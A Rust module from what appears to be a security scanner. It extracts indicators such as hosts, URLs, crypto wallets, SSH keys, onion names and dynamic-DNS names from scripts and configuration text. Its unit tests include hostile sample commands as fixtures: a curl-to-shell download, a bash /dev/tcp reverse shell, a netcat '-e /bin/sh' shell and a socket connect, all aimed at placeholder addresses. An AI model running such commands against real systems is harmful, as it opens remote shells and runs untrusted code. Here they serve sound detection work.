//! Indicators in a piece of text: a script, a value of the configuration, an argument.

use std::net::Ipv4Addr;

use lazaret_model::{Indicator, IndicatorKind};

use super::pool::{Endpoint, authority, is_host};
use super::{onion, pool, ssh_key, wallet};

/// Every indicator in `text` with its byte offset, in order, each value once.
///
/// Wallets, SSH keys and onion names are there only with a valid checksum or structure. Hosts come
/// from URLs, from `host:port`, from `/dev/tcp/host/port` and from bare addresses. Loopback and
/// placeholders (`$HOST`, `host:port`) name nobody and are left out, and so is a bare address that
/// reads as a version.
pub fn indicators_in_text(text: &str) -> Vec<(usize, Indicator)> {
    let bytes = text.as_bytes();
    let mut out: Vec<(usize, Indicator)> = Vec::new();
    wallet::find(bytes, |at, wallet| out.push((at, Indicator::new(IndicatorKind::Wallet, wallet.normal()))));
    pool::find(bytes, |at, indicator| out.push((at, indicator)));
    out.extend(ssh_key::find(bytes).map(|(at, key)| (at, Indicator::new(IndicatorKind::SshKey, key))));
    out.extend(onion::find(bytes).map(|(at, name)| (at, Indicator::new(IndicatorKind::Host, name))));
    machines(text, &mut out);
    once(out)
}

/// Those of [`indicators_in_text`] that are hosts and the URLs they stand in, names under `.onion`
/// aside.
pub(super) fn machines_in_text(text: &str) -> Vec<(usize, Indicator)> {
    let mut out = Vec::new();
    machines(text, &mut out);
    once(out)
}

fn machines(text: &str, out: &mut Vec<(usize, Indicator)>) {
    urls(text, out);
    shell_sockets(text, out);
    endpoints(text, out);
}

/// In order, each value once.
fn once(mut out: Vec<(usize, Indicator)>) -> Vec<(usize, Indicator)> {
    // Of equal values the first place is kept.
    out.sort();
    out.sort_by(|a, b| (&a.1, a.0).cmp(&(&b.1, b.0)));
    out.dedup_by(|later, first| later.1 == first.1);
    out.sort();
    out
}

/// Whether a name belongs to a service that points a free name at any address.
///
/// The list holds the suffixes that the services themselves publish.
pub fn is_dynamic_dns(host: &str) -> bool {
    const SUFFIXES: [&str; 22] = [
        "duckdns.org",
        "ddns.net",
        "no-ip.org",
        "no-ip.biz",
        "noip.me",
        "hopto.org",
        "zapto.org",
        "sytes.net",
        "dyndns.org",
        "dynu.net",
        "dynu.com",
        "freeddns.org",
        "mooo.com",
        "afraid.org",
        "dnsdynamic.org",
        "changeip.com",
        "3utilities.com",
        "servebeer.com",
        "servehttp.com",
        "myftp.org",
        "redirectme.net",
        "nip.io",
    ];
    SUFFIXES.iter().any(|suffix| host.strip_suffix(suffix).is_some_and(|rest| rest.ends_with('.')))
}

fn urls(text: &str, out: &mut Vec<(usize, Indicator)>) {
    for (slashes, _) in text.match_indices("://") {
        let before = &text[..slashes];
        let start = before
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
            .map_or(0, |at| at + before[at..].chars().next().map_or(1, char::len_utf8));
        let scheme = before[start..].to_ascii_lowercase();
        if scheme.is_empty()
            || !scheme.starts_with(|c: char| c.is_ascii_lowercase())
            || scheme.contains("stratum")
        {
            continue;
        }
        let rest = &text[slashes + 3..];
        let endpoint = authority(rest.as_bytes()).map(|mut endpoint| {
            if let Some(address) = numeric(&endpoint.host) {
                endpoint.host = address.to_string();
            }
            endpoint
        });
        let Some(endpoint) = endpoint.filter(names_a_machine) else { continue };
        let after = &rest[endpoint.length..];
        let end = after
            .find(|c: char| c.is_whitespace() || c.is_control() || "\"'`<>|;\\^{}()$".contains(c))
            .unwrap_or(after.len())
            .min(2048);
        let end = (0..=end).rev().find(|&at| after.is_char_boundary(at)).unwrap_or(0);
        let path = after[..end].trim_end_matches(['.', ',', ':', ']', '*', '!', '?']);
        let path = if path.is_empty() || path.starts_with(['/', '?', '#']) { path } else { "" };
        out.push((
            start,
            Indicator::new(IndicatorKind::Url, format!("{scheme}://{}{path}", endpoint.normal())),
        ));
        out.push((start, Indicator::new(IndicatorKind::Host, host_value(&endpoint))));
    }
}

/// Whether a URL leads to another machine.
fn names_a_machine(endpoint: &Endpoint<'_>) -> bool {
    is_host(&endpoint.host) || endpoint.host.contains(':') && endpoint.host != "::1"
}

/// The address that a host in numbers is, as programs read it that ask `inet_aton(3)`: one to four numbers, each
/// decimal, octal (`0…`) or hexadecimal (`0x…`), the last of which fills what is left.
fn numeric(host: &str) -> Option<Ipv4Addr> {
    let host = host.trim_end_matches('.');
    let parts: Vec<&str> = host.split('.').collect();
    let number = |part: &&str| {
        let lower = part.to_ascii_lowercase();
        match lower.strip_prefix("0x") {
            Some(hex) => u32::from_str_radix(hex, 16).ok(),
            None if lower.len() > 1 && lower.starts_with('0') => u32::from_str_radix(&lower, 8).ok(),
            None if lower.bytes().all(|b| b.is_ascii_digit()) => lower.parse().ok(),
            None => None,
        }
    };
    let numbers: Vec<u32> = parts.iter().map(number).collect::<Option<_>>()?;
    let (last, first) = numbers.split_last()?;
    if first.len() > 3 || first.iter().any(|number| *number > 255) {
        return None;
    }
    let left = 32 - 8 * first.len() as u32;
    if left < 32 && *last >> left != 0 {
        return None;
    }
    // A small number alone is a port or a name on a private network.
    if first.is_empty() && *last < 1 << 24 {
        return None;
    }
    let high = first.iter().enumerate().fold(0, |all, (at, number)| all | number << (24 - 8 * at));
    Some(Ipv4Addr::from(high | last))
}

/// A host without its port: the machine is what ties images together.
fn host_value(endpoint: &Endpoint<'_>) -> String {
    endpoint.host.clone()
}

/// `/dev/tcp/host/port`, which bash opens as a connection (bash(1), "Redirection").
fn shell_sockets(text: &str, out: &mut Vec<(usize, Indicator)>) {
    for device in ["/dev/tcp/", "/dev/udp/"] {
        for (at, _) in text.match_indices(device) {
            let rest = &text[at + device.len()..];
            let Some((host, rest)) = rest.split_once('/') else { continue };
            let port = rest.bytes().take_while(u8::is_ascii_digit).count();
            if port > 0 && is_host(host) {
                out.push((at + device.len(), Indicator::new(IndicatorKind::Host, host.to_ascii_lowercase())));
            }
        }
    }
}

/// What ends a word, of ASCII: blanks, control characters, and what shells and languages put around
/// words.
const BREAKS: [bool; 128] = {
    let mut set = [false; 128];
    let mut at = 0;
    while at <= 0x20 {
        set[at] = true;
        at += 1;
    }
    set[0x7f] = true;
    let marks = b"\"'`<>|;,=()&{}\\";
    let mut n = 0;
    while n < marks.len() {
        set[marks[n] as usize] = true;
        n += 1;
    }
    set
};

/// `host:port`, `user@host` with an address, and bare addresses.
fn endpoints(text: &str, out: &mut Vec<(usize, Indicator)>) {
    let is_break = |c: char| match u8::try_from(c) {
        Ok(byte) if byte.is_ascii() => BREAKS[usize::from(byte)],
        _ => c.is_whitespace() || c.is_control(),
    };
    let mut previous = "";
    let mut at = 0;
    for token in text.split(is_break) {
        let offset = at;
        at = offset + token.len() + text[offset + token.len()..].chars().next().map_or(0, char::len_utf8);
        if token.is_empty() {
            continue;
        }
        if let Some(host) = bare_endpoint(token, previous) {
            out.push((offset, Indicator::new(IndicatorKind::Host, host)));
        }
        previous = token;
    }
}

fn bare_endpoint(token: &str, previous: &str) -> Option<String> {
    if token.len() > 300 || !token.as_bytes().contains(&b'.') || token.contains("//") {
        return None;
    }
    // What follows a path (`host:/path`, `1.2.3.4/24`) does not matter to what the host is.
    let machine = token.rsplit_once('@').map_or(token, |(_, machine)| machine);
    let machine = machine.split('/').next().unwrap_or_default().trim_end_matches(['.', ':']);
    let (name, port) = match machine.rsplit_once(':') {
        Some((name, port)) => match port.parse::<u16>() {
            Ok(port) if port > 0 => (name, Some(port)),
            _ => (name, None),
        },
        None => (machine, None),
    };
    if let Ok(address) = name.parse::<Ipv4Addr>() {
        let contact = port.is_some() || token.contains('@');
        return (is_public_enough(address) && (contact || !reads_as_version(address, previous)))
            .then(|| address.to_string());
    }
    // Without a port a dotted word is a file or a module as often as a host.
    port.filter(|_| is_host(name) && !is_file_name(name)).map(|_| name.to_ascii_lowercase())
}

/// Whether an address can be that of another machine.
fn is_public_enough(address: Ipv4Addr) -> bool {
    let first = address.octets()[0];
    !(address.is_loopback() || first == 0 || first >= 224)
}

/// Whether four numbers are more likely a version or an object identifier than an address.
fn reads_as_version(address: Ipv4Addr, previous: &str) -> bool {
    let word = previous.trim_end_matches([':', '-', '.']).to_ascii_lowercase();
    let named = ["version", "ver", "v", "release", "rev", "oid", "tag", "pkgver"]
        .iter()
        .any(|name| word.ends_with(name));
    // All numbers small: one in ten thousand addresses, nearly all versions. The private network 10
    // is the exception.
    let small = address.octets().iter().all(|&octet| octet <= 30) && !address.is_private();
    named || small
}

/// `main.py:12`, `app.js:3`: a place in a source file.
pub(super) fn is_file_name(name: &str) -> bool {
    let suffix = name.rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
    matches!(
        suffix.as_str(),
        "py" | "sh"
            | "pl"
            | "rs"
            | "md"
            | "c"
            | "cc"
            | "cpp"
            | "h"
            | "hpp"
            | "go"
            | "js"
            | "ts"
            | "rb"
            | "java"
            | "php"
            | "txt"
            | "log"
            | "conf"
            | "cfg"
            | "json"
            | "yml"
            | "yaml"
            | "xml"
            | "html"
            | "so"
            | "service"
            | "css"
            | "lua"
            | "el"
            | "tex"
            | "sql"
            | "jar"
            | "class"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        indicators_in_text(text).into_iter().map(|(_, indicator)| indicator.to_string()).collect()
    }

    #[test]
    fn urls_give_the_url_and_its_host() {
        assert_eq!(
            found("curl -fsSL HTTP://Host.Example.invalid:8080/a/b.jpg|sh"),
            ["host host.example.invalid", "url http://host.example.invalid:8080/a/b.jpg"]
        );
        assert_eq!(
            found("wget 'ftp://user:pass@203.0.113.5/x'; echo"),
            ["host 203.0.113.5", "url ftp://203.0.113.5/x"]
        );
        assert_eq!(found("see (https://example.org/x.)"), ["host example.org", "url https://example.org/x"]);
    }

    #[test]
    fn an_address_is_one_however_its_number_is_written() {
        for host in
            ["203.0.113.43", "3405803819", "0xCB00712B", "0xcb.0.0x71.43", "0313.0.0161.053", "203.0.28971"]
        {
            let text = format!("curl http://{host}/x");
            assert_eq!(found(&text), ["host 203.0.113.43", "url http://203.0.113.43/x"], "{host}");
        }
        for text in ["http://8080/x", "http://0x7f000001/x", "http://203.0.113.999/x", "http://99999999999/x"]
        {
            assert_eq!(found(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn addresses_are_seen_in_every_place_of_a_script() {
        for text in [
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "nc 203.0.113.5 4444 -e /bin/sh",
            "-o 203.0.113.5:3333",
            "ssh root@203.0.113.5",
            "HOST=203.0.113.5",
            "s.connect((\"203.0.113.5\",4444))",
        ] {
            assert_eq!(found(text), ["host 203.0.113.5"], "{text}");
        }
        assert_eq!(found("-o pool.invalid:3333"), ["host pool.invalid"]);
        assert_eq!(
            found("[2001:db8::1] tcp://[2001:db8::1]:99"),
            ["host 2001:db8::1", "url tcp://[2001:db8::1]:99"]
        );
    }

    #[test]
    fn versions_files_loopback_and_placeholders_are_no_hosts() {
        for text in [
            "version 1.2.3.4",
            "foo 2.17.0.1 bar",
            "v8.231.44.2-rc1",
            "Version: 140.220.3.4",
            "main.py:12: error",
            "127.0.0.1:8080 localhost:80 0.0.0.0:80",
            "http://localhost:8080/",
            "http://$HOST/x ${A}://b",
            "255.255.255.0",
            "1.3.6.1.4.1.311",
            "image: repo.name:latest",
            "a.b.c d.e",
        ] {
            assert_eq!(found(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn each_value_is_given_once_at_its_first_place() {
        let text = "203.0.113.5:1 203.0.113.5:2 198.51.100.7:1";
        let found = indicators_in_text(text);
        assert_eq!(found.iter().map(|(at, _)| *at).collect::<Vec<_>>(), [0, 28]);
    }

    #[test]
    fn free_names_are_known_by_their_suffix() {
        assert!(is_dynamic_dns("any.duckdns.org"));
        assert!(!is_dynamic_dns("duckdns.org"));
        assert!(!is_dynamic_dns("notduckdns.org"));
    }
}
